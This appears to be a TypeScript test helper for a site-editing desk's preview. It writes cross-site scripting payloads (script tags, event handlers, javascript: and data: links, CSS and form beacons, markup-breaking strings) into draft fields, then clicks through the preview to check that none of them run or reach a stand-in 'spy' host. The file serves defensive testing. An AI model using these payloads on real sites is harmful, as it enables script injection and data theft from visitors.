import { schemasAt, widgetOf } from '../../content-model/field-schema.ts';
import { fieldsOf } from '../../content-model/fields-of.ts';
import { setAt } from '../../content-model/set-at.ts';
import type { FileFormData } from '../../desk/editing/form-data.ts';

/**
 * What an editor could write so that a page of the preview runs a script, tells somebody something or takes the desk's place.
 * `spy` is an address that nothing may reach. Each that runs sets `top.ran`.
 */
export function hostileTexts(spy: string): string[] {
  const run = `top.ran=1;fetch('${spy}/x')`;
  return [
    `<script>${run}</script>`,
    `<script src="${spy}/x.js"></script>`,
    `<script type="module">${run}</script>`,
    `</script><script>${run}</script>`,
    `<img src="/none.jpg" onerror="${run}">`,
    `<img src="${spy}/x.png" srcset="${spy}/x2.png 2x">`,
    `<svg onload="${run}"><animate onbegin="${run}" attributeName="x"/></svg>`,
    `<svg><script>${run}</script><image href="${spy}/x.svg"/><use href="${spy}/x.svg#a"/></svg>`,
    `<iframe srcdoc="&lt;script>${run}&lt;/script>"></iframe>`,
    `<iframe src="${spy}/frame"></iframe>`,
    `<iframe src="javascript:${run}"></iframe>`,
    `<object data="${spy}/x.swf"></object><embed src="${spy}/x.swf">`,
    `<a href="javascript:${run}">free whitening</a>`,
    `<a href="data:text/html,<script>${run}</script>">free implants</a>`,
    `<a href="${spy}/top" target="_top">free braces</a>`,
    `<a href="#" ping="${spy}/ping">free checks</a>`,
    `<a href="#" onclick="${run}" onmouseover="${run}" onfocus="${run}">free cleans</a>`,
    `<form action="${spy}/form"><input name="a"><button>Book</button></form>`,
    `<form action="/sign-out" method="post"><input type="image" src="${spy}/x.png"><button formaction="/members">Go</button></form>`,
    `<meta http-equiv="refresh" content="0;url=${spy}/refresh">`,
    `<base href="${spy}/">`,
    `<link rel="stylesheet" href="${spy}/x.css"><link rel="prefetch" href="${spy}/pre">`,
    `<style>@import url(${spy}/x.css); * { background: url(${spy}/x.png) }</style>`,
    `<p style="background:url(${spy}/style.png);position:fixed;inset:0">x</p>`,
    `<details open ontoggle="${run}"><summary>More</summary></details>`,
    `<input autofocus onfocus="${run}"><textarea onfocus="${run}"></textarea>`,
    `<video src="${spy}/x.mp4" onerror="${run}" poster="${spy}/x.jpg" autoplay></video><audio src="${spy}/x.mp3"></audio>`,
    `<math><mtext><table><mglyph><style><img src="/none" onerror="${run}"></style></table></mtext></math>`,
    `<noscript><p title="</noscript><img src=/none onerror=${run}>"></noscript>`,
    `<template><img src="/none" onerror="${run}"></template><body onload="${run}">`,
    `"><img src=/none onerror=${run}>`,
    `' onmouseover='${run}' x='`,
    `--><img src=/none onerror=${run}><!--`,
    `]]><img src=/none onerror=${run}>`,
    `</title></textarea></style><img src=/none onerror=${run}>`,
    `[free](javascript:${run}) [beer](vbscript:x) [now](data:text/html,x)`,
    `![a picture](${spy}/picture.png) ![another](javascript:x)`,
    `![of the desk](//desk.example/members) <javascript:${run}>`,
    `&lt;img src=/none onerror=${run}&gt; &#60;script&#62;${run}`,
    '\ufff0\ufff1\ufff4\ufff5\u2028\u202e" data-field="team.yaml#0.name" autofocus tabindex="1',
  ];
}

/** For a text that may be no longer than a title. */
const shortest = `"><img src=/no onerror=top.ran=1> ' onmouseover='top.ran=1'`;

/** A form with a hostile text after every text that patients read. */
function hostileForm({ body, schema, value }: FileFormData, next: () => string) {
  let changed = value;
  for (const { field, value: text } of [...fieldsOf(value)]) {
    const own = schemasAt(field, schema).at(-1) ?? {};
    const isText = ['text', 'textarea'].includes(widgetOf(own)) && !own.pattern && !own.format && own.audience === undefined;
    if (typeof text !== 'string' || !text || !isText) continue;
    const longer = `${text} ${next()}`;
    changed = setAt(changed, field, longer.length > (own.maxLength ?? longer.length) ? shortest : longer);
  }
  return { value: changed, body: body === undefined ? undefined : `${body}\n\n${hostileTexts('').map(next).join('\n\n')}\n` };
}

type Send = (path: string, body?: object) => Promise<Response>;

/** Makes the drafts of these files hostile. Returns how many texts of them are, and what the preview leaves out. */
export async function writeHostileDrafts(send: Send, files: readonly string[], spy: string) {
  const texts = hostileTexts(spy);
  let written = 0;
  const leftOut: string[] = [];
  for (const file of files) {
    const opened = (await (await send(`/edit/${file}`)).json()) as FileFormData;
    const form = hostileForm(opened, () => texts[written++ % texts.length] ?? '');
    const { body, hash, value } = opened;
    const answer = await send(`/edit/${file}`, { ...form, hash, base: { value, body } });
    if (!answer.ok) throw new Error(`${file}: ${await answer.text()}`);
    const found = (await (await send(`/findings/${file}`)).json()) as FileFormData;
    leftOut.push(...found.leftOut);
  }
  return { written, leftOut: [...new Set(leftOut)] };
}

/** Adds HTML to the page in the frame, as if it had not been escaped. Runs in the page. */
export function addToFrame(html: readonly string[]): void {
  const page = document.querySelector('iframe')?.contentDocument;
  for (const one of html) page?.body.append(page.createRange().createContextualFragment(one));
}

/** Does what somebody does who looks at everything on the page and presses it. Runs in the page. Returns how much there was. */
export function useEverything(): number {
  const page = document.querySelector('iframe')?.contentDocument;
  const all = [...(page?.body.querySelectorAll<HTMLElement>('a, button, input, summary, [data-field], [tabindex]') ?? [])];
  for (const element of all) {
    element.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }));
    element.focus();
    if (element.matches('a, button, input, summary')) element.click();
  }
  return all.length;
}
